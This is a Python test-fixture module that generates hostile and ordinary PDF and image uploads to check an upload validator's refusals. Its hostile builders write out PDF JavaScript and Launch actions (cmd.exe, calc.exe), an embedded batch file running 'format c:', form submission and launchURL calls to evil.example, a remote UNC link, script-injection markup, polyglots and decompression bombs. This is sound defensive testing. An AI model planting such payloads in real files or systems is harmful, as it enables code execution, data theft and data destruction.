"""Hostile and ordinary uploads, built in code (pikepdf, Pillow, zlib; no files checked in).

``HOSTILE`` maps a name to (builder, file name, declared type, expected refusal code);
``ORDINARY`` maps a name to (builder, file name, declared type). Builders are cached: each
file is made once per test run.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

PDF_TYPE, JPEG_TYPE, PNG_TYPE = "application/pdf", "image/jpeg", "image/png"

HTML = "<html><body><script>alert(document.cookie)</script></body></html>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
# What a regex scanner of raw bytes took for active content, planted in image data.
PDF_WORDS = b"/JS /JavaScript /Launch /EmbeddedFile /RichMedia /XFA /SubmitForm"
MARKUP_WORDS = b"<html><script>alert(1)</script><svg onload=alert(1)>PK\x05\x06"


# --- PDF building blocks ---------------------------------------------------------------

def _new(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def _save(pdf: pikepdf.Pdf, *, object_streams: bool = True, compress: bool = True,
          **options) -> bytes:
    buffer = io.BytesIO()
    mode = (pikepdf.ObjectStreamMode.generate if object_streams
            else pikepdf.ObjectStreamMode.disable)
    # decode level none: image data is written exactly as given (never recompressed)
    pdf.save(buffer, object_stream_mode=mode, compress_streams=compress,
             stream_decode_level=pikepdf.StreamDecodeLevel.none, static_id=True, **options)
    return buffer.getvalue()


def _js(code: str = "app.alert('pwned')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _annotate(pdf: pikepdf.Pdf, annotation: Dictionary, page: int = 0) -> pikepdf.Object:
    if "/Type" not in annotation:
        annotation.Type = Name.Annot
    if "/Rect" not in annotation:
        annotation.Rect = Array([72, 72, 272, 144])
    indirect = pdf.make_indirect(annotation)
    target = pdf.pages[page].obj
    target.Annots = Array([*target.get("/Annots", Array()), indirect])
    return indirect


def _image_page(pdf: pikepdf.Pdf, pixels: bytes, width: int, height: int, *, level: int = 6):
    """A page showing a grey image whose data is ``pixels`` (width × height bytes)."""
    image = pikepdf.Stream(pdf, zlib.compress(pixels, level), Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height,
        ColorSpace=Name.DeviceGray, BitsPerComponent=8, Filter=Name.FlateDecode))
    page = pdf.add_blank_page(page_size=(595, 842))
    page.obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
    page.obj.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return page


def _noise(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def _planted(size: int, seed: int, words: bytes) -> bytes:
    """Random bytes with ``words`` written into them every 64 KiB."""
    data = bytearray(_noise(size, seed))
    for offset in range(1000, size - len(words), 64 * 1024):
        data[offset:offset + len(words)] = words
    return bytes(data)


def scan_pdf(*, pages: int, page_bytes: int, seed: int, words: bytes = b"",
             object_streams: bool = False, level: int = 6) -> bytes:
    """A scanned document: one noise image per page (incompressible, as a real scan's
    compressed data is). With ``words``, they are planted in the data and written with
    zlib level 0 (stored blocks), so they appear as such in the file's compressed data."""
    pdf = pikepdf.new()
    width = 1000
    for number in range(pages):
        pixels = (_planted(page_bytes, seed + number, words) if words
                  else _noise(page_bytes, seed + number))
        _image_page(pdf, pixels, width, page_bytes // width, level=0 if words else level)
    return _save(pdf, object_streams=object_streams)


# --- hostile PDFs ----------------------------------------------------------------------

def pdf_open_action_js() -> bytes:
    pdf = _new()
    pdf.Root.OpenAction = _js()
    return _save(pdf, object_streams=False, compress=False)


def pdf_js_in_object_stream() -> bytes:
    """The action is an indirect object inside a compressed object stream, found through a
    compressed cross-reference stream: no '/JS' in the file's bytes."""
    pdf = _new(2)
    pdf.Root.OpenAction = pdf.make_indirect(_js("this.exportDataObject({cName: 'a'})"))
    data = _save(pdf)
    assert b"/JS" not in data and b"JavaScript" not in data
    return data


def pdf_js_stream_in_object_stream() -> bytes:
    pdf = _new()
    code = pdf.make_stream(b"var x = app.viewerVersion; app.launchURL('https://evil.example');")
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=code))
    return _save(pdf)


def pdf_annotation_aa_js() -> bytes:
    pdf = _new()
    _annotate(pdf, Dictionary(Subtype=Name.Link, Border=Array([0, 0, 0]),
                              AA=Dictionary(E=_js("app.alert('mouse enter')"))))
    return _save(pdf)


def pdf_page_aa_js() -> bytes:
    pdf = _new()
    pdf.pages[0].obj.AA = Dictionary(O=_js("app.alert('page open')"))
    return _save(pdf)


def pdf_names_tree_js() -> bytes:
    pdf = _new()
    action = pdf.make_indirect(_js("app.alert('document level')"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), action])))
    return _save(pdf)


def pdf_field_keystroke_js() -> bytes:
    pdf = _new()
    field = _annotate(pdf, Dictionary(Subtype=Name.Widget, FT=Name.Tx, T=String("amount"),
                                      AA=Dictionary(K=_js("AFNumber_Keystroke(2)"))))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return _save(pdf)


def pdf_rendition_js() -> bytes:
    pdf = _new()
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(
        S=Name.Rendition, OP=0, JS=String("app.alert('rendition')"))))
    return _save(pdf)


def pdf_launch_open_action() -> bytes:
    pdf = _new()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(
        S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc.exe"))))
    data = _save(pdf)
    assert b"/Launch" not in data
    return data


def pdf_launch_link() -> bytes:
    pdf = _new()
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch,
                                                                F=String("invoice.exe"))))
    return _save(pdf, object_streams=False, compress=False)


def pdf_remote_goto() -> bytes:
    pdf = _new()
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(
        S=Name.GoToR, F=String("\\\\203.0.113.9\\share\\doc.pdf"), D=Array([0, Name.Fit]))))
    return _save(pdf)


def pdf_submit_form() -> bytes:
    pdf = _new()
    button = _annotate(pdf, Dictionary(
        Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("send"),
        A=Dictionary(S=Name.SubmitForm, F=Dictionary(
            FS=Name.URL, F=String("https://evil.example/collect")), Flags=4)))
    pdf.Root.AcroForm = Dictionary(Fields=Array([button]))
    data = _save(pdf)
    assert b"/SubmitForm" not in data
    return data


def pdf_submit_form_plain() -> bytes:
    pdf = _new()
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    return _save(pdf, object_streams=False, compress=False)


def pdf_import_data() -> bytes:
    pdf = _new()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.ImportData,
                                                       F=String("data.fdf")))
    return _save(pdf)


def pdf_attachment() -> bytes:
    pdf = _new()
    pdf.attachments["readme.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ\x90\x00" + b"\x00" * 200, filename="readme.exe",
        mime_type="application/octet-stream")
    return _save(pdf)


def pdf_file_attachment_annotation() -> bytes:
    pdf = _new()
    payload = pdf.make_stream(b"@echo off\r\nformat c:\r\n")
    payload.stream_dict.Type = Name.EmbeddedFile
    _annotate(pdf, Dictionary(Subtype=Name.FileAttachment, Name=Name.PushPin, FS=Dictionary(
        Type=Name.Filespec, F=String("run.bat"), EF=Dictionary(F=payload))))
    return _save(pdf)


def pdf_rich_media() -> bytes:
    pdf = _new()
    flash = pdf.make_stream(b"FWS\x0a" + b"\x00" * 64)
    _annotate(pdf, Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary(
        Assets=Dictionary(Names=Array([String("movie.swf"), Dictionary(
            Type=Name.Filespec, F=String("movie.swf"))])), Configurations=Array()),
        RichMediaSettings=Dictionary(), Resources=flash))
    return _save(pdf)


def pdf_xfa() -> bytes:
    pdf = _new()
    xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
                          b'<subform name="form1"/></template></xdp:xdp>')
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
    return _save(pdf)


def _encrypted(encryption: pikepdf.Encryption) -> bytes:
    pdf = _new()
    buffer = io.BytesIO()
    pdf.save(buffer, encryption=encryption, static_id=True)
    return buffer.getvalue()


def pdf_encrypted_rc4() -> bytes:
    """RC4 128-bit, empty user password: opens without a password, but encrypted."""
    return _encrypted(pikepdf.Encryption(owner="owner", user="", R=3, aes=False,
                                         metadata=False))


def pdf_encrypted_aes128() -> bytes:
    return _encrypted(pikepdf.Encryption(owner="owner", user="", R=4, aes=True))


def pdf_encrypted_aes256_password() -> bytes:
    return _encrypted(pikepdf.Encryption(owner="owner", user="secret", R=6))


def pdf_truncated() -> bytes:
    whole = scan_pdf(pages=3, page_bytes=40_000, seed=7, object_streams=True)
    return whole[: len(whole) // 2]


def pdf_random_body() -> bytes:
    """A PDF header and then noise: what `make bench` uploaded before."""
    return b"%PDF-1.7\n" + _noise(200_000, 11)


def pdf_without_pages() -> bytes:
    return (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n"
            b"%%EOF\n")


def pdf_html_utf16le_after_eof() -> bytes:
    return _save(_new()) + HTML.encode("utf-16-le")


def pdf_html_utf16be_in_plain_stream() -> bytes:
    pdf = _new()
    pdf.Root.PieceInfo = pdf.make_stream(b"\xfe\xff" + HTML.encode("utf-16-be"))
    return _save(pdf, compress=False)


def pdf_html_in_plain_content() -> bytes:
    pdf = _new()
    pdf.pages[0].obj.Contents = pdf.make_stream(
        b"% " + HTML.encode() + b"\nBT /F1 12 Tf 72 720 Td (x) Tj ET")
    return _save(pdf, compress=False)


def pdf_html_in_fake_compressed_stream() -> bytes:
    """Markup in a stream that claims to be compressed and is not: no scan is spared it."""
    pdf = _new()
    fake = pikepdf.Stream(pdf, SVG.encode())
    fake.stream_dict.Filter = Name.FlateDecode
    pdf.Root.PieceInfo = fake
    return _save(pdf)


def pdf_zip_appended() -> bytes:
    return _save(_new()) + _zip()


def pdf_large_js_in_object_stream() -> bytes:
    """Over FILE_UPLOAD_MAX_MEMORY_SIZE: spooled to a temporary file, which must go too."""
    pdf = pikepdf.open(io.BytesIO(scan_pdf(pages=3, page_bytes=1_000_000, seed=21)))
    pdf.Root.OpenAction = pdf.make_indirect(_js())
    return _save(pdf)


# --- hostile images --------------------------------------------------------------------

def _jpeg(size=(64, 48), seed: int = 1, **options) -> bytes:
    image = Image.effect_noise(size, 40).convert("RGB")
    ImageDraw.Draw(image).rectangle((4, 4, size[0] // 2, size[1] // 2), fill=(200, 30, seed))
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=85, **options)
    return buffer.getvalue()


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def _after_soi(jpeg: bytes, *segments: bytes) -> bytes:
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def _with_jpeg_size(jpeg: bytes, width: int, height: int) -> bytes:
    """The same JPEG with its frame header (SOFn) claiming another size."""
    data, position = bytearray(jpeg), 2
    while position < len(data):
        marker = data[position + 1]
        length = struct.unpack(">H", data[position + 2:position + 4])[0]
        if 0xC0 <= marker <= 0xCF and marker not in (0xC4, 0xC8, 0xCC):
            data[position + 5:position + 9] = struct.pack(">HH", height, width)
            return bytes(data)
        position += 2 + length
    raise AssertionError("no SOF marker")


def jpeg_bomb_behind_comments() -> bytes:
    comments = [_segment(0xFE, b"scanner settings " * 3854) for _ in range(5)]
    data = _with_jpeg_size(_after_soi(_jpeg(), *comments), 50_000, 50_000)
    assert data.index(b"\xff\xc0") > 256 * 1024
    return data


def jpeg_bomb_behind_app_segments() -> bytes:
    profile = [_segment(0xE2, b"ICC_PROFILE\x00"
                        + _noise(65_000, n).replace(b"\xff", b"\x00")) for n in range(5)]
    data = _with_jpeg_size(_after_soi(_jpeg(), *profile), 20_000, 20_000)
    assert data.index(b"\xff\xc0") > 256 * 1024
    return data


def jpeg_bomb_small() -> bytes:
    return _with_jpeg_size(_jpeg(), 65_000, 65_000)


def _chunk(kind: bytes, payload: bytes) -> bytes:
    return (struct.pack(">I", len(payload)) + kind + payload
            + struct.pack(">I", zlib.crc32(kind + payload)))


def _png_raw(width: int, height: int, idat: bytes, *, depth=1, color=0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat)
            + _chunk(b"IEND", b""))


def png_bomb_huge_header() -> bytes:
    return _png_raw(100_000, 100_000, zlib.compress(b"\x00" * 12_501 * 8))


def png_bomb_zlib() -> bytes:
    """8000 × 6000 (48 Mpx) that inflates from about 50 KB to 6 MB: beyond the 40 Mpx cap."""
    row = b"\x00" + b"\x00" * 1000
    return _png_raw(8000, 6000, zlib.compress(row * 6000, 9))


def _png(size=(64, 48), **options) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (10, 120, 60)).save(buffer, "PNG", **options)
    return buffer.getvalue()


def _insert_before_iend(png: bytes, chunk: bytes) -> bytes:
    at = png.rindex(b"IEND") - 4
    return png[:at] + chunk + png[at:]


def png_script_in_text_chunk() -> bytes:
    return _insert_before_iend(_png(), _chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>"))


def png_html_utf16le_in_text_chunk() -> bytes:
    return _insert_before_iend(_png(), _chunk(b"tEXt", b"Comment\x00"
                                              + HTML.encode("utf-16-le")))


def png_html_utf32be_private_chunk() -> bytes:
    return _insert_before_iend(_png(), _chunk(b"prVt", HTML.encode("utf-32-be")))


def png_svg_appended() -> bytes:
    return _png() + SVG.encode()


def png_svg_utf16_bom_appended() -> bytes:
    return _png() + SVG.encode("utf-16")  # with a byte order mark


def png_zip_appended() -> bytes:
    return _png() + _zip()


def png_bad_crc() -> bytes:
    data = bytearray(_png((200, 100)))
    at = data.index(b"IDAT") + 10
    data[at] ^= 0xFF
    return bytes(data)


def png_truncated() -> bytes:
    data = Image.effect_noise((300, 300), 60)
    buffer = io.BytesIO()
    data.save(buffer, "PNG")
    return buffer.getvalue()[:40_000]


def jpeg_html_utf16le_in_comment() -> bytes:
    return _after_soi(_jpeg(), _segment(0xFE, HTML.encode("utf-16-le")))


def jpeg_html_utf16be_appended() -> bytes:
    return _jpeg() + HTML.encode("utf-16-be")


def jpeg_svg_utf32le_in_app_segment() -> bytes:
    return _after_soi(_jpeg(), _segment(0xE9, SVG.encode("utf-32-le")))


def jpeg_script_utf8_bom_appended() -> bytes:
    return _jpeg() + "\ufeff<script>fetch('/api/v1/documents/')</script>".encode()


def jpeg_zip_appended() -> bytes:
    return _jpeg() + _zip()


def jpeg_garbage() -> bytes:
    return b"\xff\xd8\xff\xe0" + _noise(5_000, 3)


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("payload.html", HTML)
    return buffer.getvalue()


HOSTILE = {
    "pdf-openaction-javascript": (pdf_open_action_js, "js.pdf", PDF_TYPE, "pdf_javascript"),
    "pdf-javascript-in-object-stream": (pdf_js_in_object_stream, "objstm.pdf", PDF_TYPE,
                                        "pdf_javascript"),
    "pdf-javascript-stream-in-object-stream": (pdf_js_stream_in_object_stream, "js2.pdf",
                                               PDF_TYPE, "pdf_javascript"),
    "pdf-annotation-aa-javascript": (pdf_annotation_aa_js, "aa.pdf", PDF_TYPE,
                                     "pdf_javascript"),
    "pdf-page-aa-javascript": (pdf_page_aa_js, "page-aa.pdf", PDF_TYPE, "pdf_javascript"),
    "pdf-names-tree-javascript": (pdf_names_tree_js, "names.pdf", PDF_TYPE, "pdf_javascript"),
    "pdf-form-field-keystroke-javascript": (pdf_field_keystroke_js, "field.pdf", PDF_TYPE,
                                            "pdf_javascript"),
    "pdf-rendition-javascript": (pdf_rendition_js, "rendition.pdf", PDF_TYPE,
                                 "pdf_javascript"),
    "pdf-launch-open-action": (pdf_launch_open_action, "launch.pdf", PDF_TYPE, "pdf_launch"),
    "pdf-launch-link": (pdf_launch_link, "launch2.pdf", PDF_TYPE, "pdf_launch"),
    "pdf-remote-goto": (pdf_remote_goto, "gotor.pdf", PDF_TYPE, "pdf_launch"),
    "pdf-submit-form": (pdf_submit_form, "submit.pdf", PDF_TYPE, "pdf_form_submit"),
    "pdf-submit-form-plain": (pdf_submit_form_plain, "submit2.pdf", PDF_TYPE,
                              "pdf_form_submit"),
    "pdf-import-data": (pdf_import_data, "import.pdf", PDF_TYPE, "pdf_form_submit"),
    "pdf-embedded-file": (pdf_attachment, "attach.pdf", PDF_TYPE, "pdf_embedded_file"),
    "pdf-file-attachment-annotation": (pdf_file_attachment_annotation, "attach2.pdf",
                                       PDF_TYPE, "pdf_embedded_file"),
    "pdf-rich-media": (pdf_rich_media, "flash.pdf", PDF_TYPE, "pdf_rich_media"),
    "pdf-xfa-form": (pdf_xfa, "xfa.pdf", PDF_TYPE, "pdf_xfa"),
    "pdf-encrypted-rc4": (pdf_encrypted_rc4, "rc4.pdf", PDF_TYPE, "pdf_encrypted"),
    "pdf-encrypted-aes128": (pdf_encrypted_aes128, "aes128.pdf", PDF_TYPE, "pdf_encrypted"),
    "pdf-encrypted-aes256-password": (pdf_encrypted_aes256_password, "aes256.pdf", PDF_TYPE,
                                      "pdf_encrypted"),
    "pdf-truncated": (pdf_truncated, "cut.pdf", PDF_TYPE, "pdf_unreadable"),
    "pdf-header-then-noise": (pdf_random_body, "noise.pdf", PDF_TYPE, "pdf_unreadable"),
    "pdf-without-pages": (pdf_without_pages, "empty.pdf", PDF_TYPE, "pdf_unreadable"),
    "pdf-html-utf16le-after-eof": (pdf_html_utf16le_after_eof, "poly.pdf", PDF_TYPE,
                                   "polyglot_markup"),
    "pdf-html-utf16be-in-plain-stream": (pdf_html_utf16be_in_plain_stream, "poly2.pdf",
                                         PDF_TYPE, "polyglot_markup"),
    "pdf-html-in-plain-content-stream": (pdf_html_in_plain_content, "poly3.pdf", PDF_TYPE,
                                         "polyglot_markup"),
    "pdf-svg-in-fake-compressed-stream": (pdf_html_in_fake_compressed_stream, "poly4.pdf",
                                          PDF_TYPE, "polyglot_markup"),
    "pdf-zip-appended": (pdf_zip_appended, "poly5.pdf", PDF_TYPE, "polyglot_archive"),
    "pdf-large-javascript-spooled": (pdf_large_js_in_object_stream, "big.pdf", PDF_TYPE,
                                     "pdf_javascript"),
    "jpeg-bomb-sof-behind-comments": (jpeg_bomb_behind_comments, "bomb.jpg", JPEG_TYPE,
                                      "image_too_large"),
    "jpeg-bomb-sof-behind-app-segments": (jpeg_bomb_behind_app_segments, "bomb2.jpg",
                                          JPEG_TYPE, "image_too_large"),
    "jpeg-bomb-small-file": (jpeg_bomb_small, "bomb3.jpg", JPEG_TYPE, "image_too_large"),
    "png-bomb-huge-header": (png_bomb_huge_header, "bomb.png", PNG_TYPE, "image_too_large"),
    "png-bomb-zlib": (png_bomb_zlib, "bomb2.png", PNG_TYPE, "image_too_large"),
    "png-script-in-text-chunk": (png_script_in_text_chunk, "text.png", PNG_TYPE,
                                 "polyglot_markup"),
    "png-html-utf16le-in-text-chunk": (png_html_utf16le_in_text_chunk, "text2.png",
                                       PNG_TYPE, "polyglot_markup"),
    "png-html-utf32be-in-private-chunk": (png_html_utf32be_private_chunk, "private.png",
                                          PNG_TYPE, "polyglot_markup"),
    "png-svg-appended": (png_svg_appended, "svg.png", PNG_TYPE, "polyglot_markup"),
    "png-svg-utf16-bom-appended": (png_svg_utf16_bom_appended, "svg2.png", PNG_TYPE,
                                   "polyglot_markup"),
    "png-zip-appended": (png_zip_appended, "zip.png", PNG_TYPE, "polyglot_archive"),
    "png-bad-crc": (png_bad_crc, "crc.png", PNG_TYPE, "image_unreadable"),
    "png-truncated": (png_truncated, "cut.png", PNG_TYPE, "image_unreadable"),
    "jpeg-html-utf16le-in-comment": (jpeg_html_utf16le_in_comment, "com.jpg", JPEG_TYPE,
                                     "polyglot_markup"),
    "jpeg-html-utf16be-appended": (jpeg_html_utf16be_appended, "tail.jpg", JPEG_TYPE,
                                   "polyglot_markup"),
    "jpeg-svg-utf32le-in-app-segment": (jpeg_svg_utf32le_in_app_segment, "app.jpg",
                                        JPEG_TYPE, "polyglot_markup"),
    "jpeg-script-utf8-bom-appended": (jpeg_script_utf8_bom_appended, "tail2.jpg", JPEG_TYPE,
                                      "polyglot_markup"),
    "jpeg-zip-appended": (jpeg_zip_appended, "zip.jpg", JPEG_TYPE, "polyglot_archive"),
    "jpeg-garbage": (jpeg_garbage, "garbage.jpg", JPEG_TYPE, "image_unreadable"),
}


# --- ordinary files --------------------------------------------------------------------

def scan_with_pdf_words() -> bytes:
    data = scan_pdf(pages=4, page_bytes=250_000, seed=31, words=PDF_WORDS)
    assert b"/JS" in data and b"/Launch" in data
    return data


def scan_with_markup_words_object_streams() -> bytes:
    data = scan_pdf(pages=3, page_bytes=200_000, seed=41, words=PDF_WORDS + MARKUP_WORDS,
                    object_streams=True)
    assert b"/JS" in data and b"<html>" in data
    return data


def scan_1mb_noise() -> bytes:
    return scan_pdf(pages=4, page_bytes=250_000, seed=51)


def scan_3mb_spooled() -> bytes:
    return scan_pdf(pages=3, page_bytes=1_000_000, seed=61, words=PDF_WORDS,
                    object_streams=True)


def pdf_with_links() -> bytes:
    pdf = _new(2)
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(
        S=Name.URI, URI=String("https://jyt.jiangxi.gov.cn/"))))
    _annotate(pdf, Dictionary(Subtype=Name.Link, Rect=Array([72, 200, 272, 240]),
                              Dest=Array([pdf.pages[1].obj, Name.Fit])))
    _annotate(pdf, Dictionary(Subtype=Name.Link, Rect=Array([72, 300, 272, 340]),
                              A=Dictionary(S=Name.Named, N=Name.NextPage)))
    return _save(pdf)


def pdf_uri_open_action() -> bytes:
    pdf = _new()
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://example.org/"))
    return _save(pdf, object_streams=False, compress=False)


def pdf_acroform() -> bytes:
    pdf = _new()
    name = _annotate(pdf, Dictionary(Subtype=Name.Widget, FT=Name.Tx, T=String("name"),
                                     V=String("王小明"), DA=String("/Helv 12 Tf 0 g")))
    agree = _annotate(pdf, Dictionary(Subtype=Name.Widget, FT=Name.Btn, T=String("agree"),
                                      Rect=Array([72, 200, 90, 218]), V=Name.Yes,
                                      AS=Name.Yes))
    reset = _annotate(pdf, Dictionary(Subtype=Name.Widget, FT=Name.Btn, Ff=65536,
                                      T=String("reset"), Rect=Array([72, 300, 160, 330]),
                                      A=Dictionary(S=Name.ResetForm)))
    pdf.Root.AcroForm = Dictionary(Fields=Array([name, agree, reset]),
                                   DA=String("/Helv 0 Tf 0 g"), NeedAppearances=True)
    return _save(pdf)


def pdf_chinese_text() -> bytes:
    pdf = _new()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type0, BaseFont=Name("/STSong-Light"),
                      Encoding=Name("/UniGB-UCS2-H"), DescendantFonts=Array([Dictionary(
                          Type=Name.Font, Subtype=Name.CIDFontType0,
                          BaseFont=Name("/STSong-Light"), CIDSystemInfo=Dictionary(
                              Registry=String("Adobe"), Ordering=String("GB1"),
                              Supplement=2))]))
    page = pdf.pages[0].obj
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    text = "南昌市东湖区课后服务安全预案".encode("utf-16-be").hex().upper()
    page.Contents = pdf.make_stream(f"BT /F1 18 Tf 72 760 Td <{text}> Tj ET".encode())
    with pdf.open_metadata() as meta:
        meta["dc:title"] = "安全预案"
    pdf.docinfo["/Title"] = "课后服务安全预案"
    pdf.docinfo["/Author"] = "南昌市某培训学校"
    return _save(pdf)


def pdf_classic_xref_uncompressed() -> bytes:
    pdf = _new(3)
    return _save(pdf, object_streams=False, compress=False, min_version="1.4")


def pdf_with_jpeg_pages() -> bytes:
    pdf = pikepdf.new()
    for seed in range(3):
        data = _jpeg((800, 1100), seed=seed)
        image = pikepdf.Stream(pdf, data, Dictionary(
            Type=Name.XObject, Subtype=Name.Image, Width=800, Height=1100,
            ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode))
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
        page.obj.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return _save(pdf)


def pdf_with_outline() -> bytes:
    pdf = _new(3)
    with pdf.open_outline() as outline:
        outline.root.extend([pikepdf.OutlineItem("第一章", 0), pikepdf.OutlineItem("附件", 2)])
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
    return _save(pdf)


def pdf_linearized() -> bytes:
    buffer = io.BytesIO()
    pikepdf.open(io.BytesIO(scan_1mb_noise())).save(buffer, linearize=True)
    return buffer.getvalue()


def photo_exif_rotated() -> bytes:
    image = Image.effect_noise((1600, 1200), 30).convert("RGB")
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to show
    exif[0x010F] = "Xiaomi"
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=90, exif=exif)
    return buffer.getvalue()


def photo_12mp() -> bytes:
    image = Image.new("RGB", (4000, 3000), (230, 230, 220))
    ImageDraw.Draw(image).rectangle((400, 300, 3600, 2700), outline=(0, 0, 0), width=12)
    exif = Image.Exif()
    exif[0x0112] = 6
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=80, exif=exif)
    return buffer.getvalue()


def jpeg_progressive() -> bytes:
    return _jpeg((1024, 768), progressive=True)


def jpeg_grayscale() -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise((900, 1200), 50).save(buffer, "JPEG", quality=75)
    return buffer.getvalue()


def jpeg_with_xmp() -> bytes:
    xmp = (b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>'
           b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf='
           b'"http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description/></rdf:RDF>'
           b'</x:xmpmeta><?xpacket end="w"?>')
    return _after_soi(_jpeg((640, 480)), _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00"
                                                   + xmp))


def jpeg_late_sof_small() -> bytes:
    """A photo whose frame header sits after 300 KB of comments, at a modest size."""
    comments = [_segment(0xFE, b"camera notes " * 5000) for _ in range(5)]
    data = _after_soi(_jpeg((800, 600)), *comments)
    assert data.index(b"\xff\xc0") > 256 * 1024
    return data


def png_large_under_cap() -> bytes:
    buffer = io.BytesIO()
    image = Image.new("L", (6000, 6000), 255)
    ImageDraw.Draw(image).line((0, 0, 5999, 5999), fill=0, width=20)
    image.save(buffer, "PNG")
    return buffer.getvalue()


def png_scan_a4() -> bytes:
    buffer = io.BytesIO()
    Image.new("1", (2480, 3508), 1).save(buffer, "PNG")
    return buffer.getvalue()


def png_noise_rgba() -> bytes:
    buffer = io.BytesIO()
    noise = Image.effect_noise((1000, 800), 80)
    Image.merge("RGBA", (noise, noise, noise, noise)).save(buffer, "PNG")
    return buffer.getvalue()


def png_palette() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (640, 480), (250, 200, 10)).convert("P").save(buffer, "PNG")
    return buffer.getvalue()


def png_with_text() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Software", "Scanner 2.1")
    info.add_itxt("Description", "营业执照扫描件", lang="zh", tkey="说明")
    info.add_text("Comment", "a < b and x > y", zip=True)
    return _png((500, 700), pnginfo=info)


ORDINARY = {
    "scan-pdf-with-pdf-words-in-compressed-data": (scan_with_pdf_words, "scan.pdf", PDF_TYPE),
    "scan-pdf-with-markup-words-object-streams": (scan_with_markup_words_object_streams,
                                                  "scan2.pdf", PDF_TYPE),
    "scan-pdf-1mb-noise": (scan_1mb_noise, "scan3.pdf", PDF_TYPE),
    "scan-pdf-3mb-spooled": (scan_3mb_spooled, "scan4.pdf", PDF_TYPE),
    "pdf-with-links": (pdf_with_links, "links.pdf", PDF_TYPE),
    "pdf-uri-open-action": (pdf_uri_open_action, "uri.pdf", PDF_TYPE),
    "pdf-acroform-without-scripts": (pdf_acroform, "form.pdf", PDF_TYPE),
    "pdf-chinese-text": (pdf_chinese_text, "安全预案.pdf", PDF_TYPE),
    "pdf-classic-xref-uncompressed": (pdf_classic_xref_uncompressed, "plain.pdf", PDF_TYPE),
    "pdf-with-jpeg-pages": (pdf_with_jpeg_pages, "photos.pdf", PDF_TYPE),
    "pdf-with-outline": (pdf_with_outline, "outline.pdf", PDF_TYPE),
    "pdf-linearized": (pdf_linearized, "web.pdf", PDF_TYPE),
    "jpeg-phone-photo-exif-6": (photo_exif_rotated, "IMG_0001.jpg", JPEG_TYPE),
    "jpeg-12mp-exif-6": (photo_12mp, "IMG_0002.jpg", JPEG_TYPE),
    "jpeg-progressive": (jpeg_progressive, "progressive.jpg", JPEG_TYPE),
    "jpeg-grayscale": (jpeg_grayscale, "grey.jpg", JPEG_TYPE),
    "jpeg-with-xmp": (jpeg_with_xmp, "xmp.jpg", JPEG_TYPE),
    "jpeg-late-sof-small": (jpeg_late_sof_small, "notes.jpg", JPEG_TYPE),
    "png-36mpx-under-cap": (png_large_under_cap, "large.png", PNG_TYPE),
    "png-a4-scan-bilevel": (png_scan_a4, "a4.png", PNG_TYPE),
    "png-noise-rgba": (png_noise_rgba, "noise.png", PNG_TYPE),
    "png-palette": (png_palette, "palette.png", PNG_TYPE),
